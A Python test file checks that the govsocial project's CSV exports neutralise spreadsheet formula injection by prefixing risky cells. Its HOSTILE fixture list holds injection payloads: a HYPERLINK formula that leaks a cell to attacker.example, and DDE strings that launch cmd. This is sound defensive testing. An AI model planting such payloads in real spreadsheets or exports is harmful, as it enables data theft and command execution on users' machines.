"""Every CSV govsocial writes is safe to open in a spreadsheet: no text cell starts a formula.

One helper, ``govsocial.csvsafe.protect``, serves every writer: the registry export, the open-data
downloads and ``metrics compute --out FILE.csv``. Properties over any text: the written cell never
starts with ``= + - @``, a tab or a carriage return; reading it back (``unprotect``) gives the text
again; numbers are written as numbers, never prefixed. A static check finds every CSV writer in the
package, so a new one cannot forget the helper.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update

from govsocial.cli.metrics import _write
from govsocial.csvsafe import FORMULA_PREFIXES, protect, unprotect
from govsocial.registry.tables_io import write_csv
from govsocial.settings import PROJECT_ROOT
from govsocial.store import tables as t
from govsocial.store.db import make_engine, session_factory
from govsocial.store.open_data import Kind
from govsocial.web.api.downloads import csv_cell
from tests.demo_store import run

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Text that starts a formula, and any text at all.
formula_text = st.builds(lambda p, rest: p + rest, st.sampled_from(FORMULA_PREFIXES), st.text())
any_text = st.one_of(st.text(), formula_text)


def parsed(text: str) -> list[list[str]]:
    """The cells of a CSV document, as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@given(any_text)
def test_protected_text_never_starts_a_formula_and_reads_back(text: str) -> None:
    cell = protect(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert unprotect(cell) == text
    assert cell == text or cell == "'" + text


@given(any_text)
def test_download_text_cells_are_protected(text: str) -> None:
    assert csv_cell(text, Kind.TEXT) == protect(text)


@given(st.integers(), st.floats(allow_nan=False, allow_infinity=False))
def test_download_numbers_stay_numbers(whole: int, number: float) -> None:
    assert csv_cell(whole, Kind.INTEGER) == str(whole)
    assert float(csv_cell(number, Kind.NUMBER)) == number


@given(st.lists(st.tuples(any_text, any_text), min_size=1, max_size=5))
def test_registry_csv_writer_protects_every_cell_and_round_trips(rows: list[tuple[str, str]]) -> None:
    out = io.StringIO()
    write_csv([{"a": a, "b": b} for a, b in rows], ["a", "b"], out, bom=True)
    cells = parsed(out.getvalue())[1:]
    assert all(not cell.startswith(FORMULA_PREFIXES) for row in cells for cell in row)
    assert [(unprotect(a), unprotect(b)) for a, b in cells] == rows


def test_metrics_csv_protects_text_and_keeps_numbers(tmp_path: Path) -> None:
    table = pa.table(
        {
            "entity": pa.array([*HOSTILE, "plain", None]),
            "value": pa.array([-1.5, 2.0, -3.0, 4.0, 5.0, -6.0, 7.0, None]),
            "count": pa.array([-1, 2, 3, 4, 5, 6, 7, 8], type=pa.int64()),
        }
    )
    out = tmp_path / "metrics.csv"
    _write(table, out)
    rows = parsed(out.read_bytes().decode("utf-8"))
    assert rows[0] == ["entity", "value", "count"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE] + ["plain", ""]
    assert [r[1] for r in rows[1:8]] == ["-1.5", "2", "-3", "4", "5", "-6", "7"]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6", "7", "8"]


def test_registry_export_through_the_cli_neutralises_hostile_names(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'store.db'}"
    run(url, "db", "upgrade")
    run(url, "registry", "load", "--jurisdiction", "hk")
    engine = make_engine(url)
    with session_factory(engine)() as session:
        codes = list(session.scalars(select(t.Organisation.code).where(t.Organisation.jurisdiction == "hk")))[
            :6
        ]
        for code, hostile in zip(codes, HOSTILE, strict=True):
            session.execute(
                update(t.Organisation)
                .where(t.Organisation.jurisdiction == "hk", t.Organisation.code == code)
                .values(name_en=hostile)
            )
        session.commit()
    engine.dispose()
    for kind in ("organisations", "accounts"):
        out = tmp_path / f"{kind}.csv"
        run(url, "registry", "export", "--kind", kind, "--output", str(out), "--bom")
        cells = [cell for row in parsed(out.read_bytes().decode("utf-8"))[1:] for cell in row]
        assert cells and not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
        if kind == "organisations":
            # (the registry's records trim names, so "\t=1+1" is exported as "'=1+1")
            assert {protect(h.strip()) for h in HOSTILE} <= set(cells)


#: Every way the package writes CSV, and why each is safe.
CSV_WRITERS = {
    "govsocial/registry/tables_io.py": "write_csv: every cell through protect",
    "govsocial/web/api/downloads.py": "csv_lines: every text cell through csv_cell -> protect",
    "govsocial/cli/metrics.py": "_write: every string column through protect (_formula_safe)",
    "govsocial/web/api/survey.py": "export_csv: every cell through protect",
    "govsocial/collect/sample.py": "invented demo activity, written by govsocial itself, never exported",
}
WRITES_CSV = re.compile(r"csv\.writer\(|csv\.DictWriter\(|pcsv\.write_csv\(|\.to_csv\(|write_csv\(")


@pytest.mark.parametrize("module", sorted(CSV_WRITERS))
def test_each_known_csv_writer_is_still_where_it_is_said_to_be(module: str) -> None:
    assert WRITES_CSV.search((PROJECT_ROOT / module).read_text(encoding="utf-8")), module


def test_every_csv_writer_in_the_package_is_a_known_safe_one() -> None:
    found = {
        str(path.relative_to(PROJECT_ROOT))
        for path in (PROJECT_ROOT / "govsocial").rglob("*.py")
        if WRITES_CSV.search(path.read_text(encoding="utf-8"))
    }
    callers_of_write_csv = {"govsocial/cli/registry.py"}  # uses tables_io.write_csv
    assert found - callers_of_write_csv <= set(CSV_WRITERS), found - set(CSV_WRITERS) - callers_of_write_csv
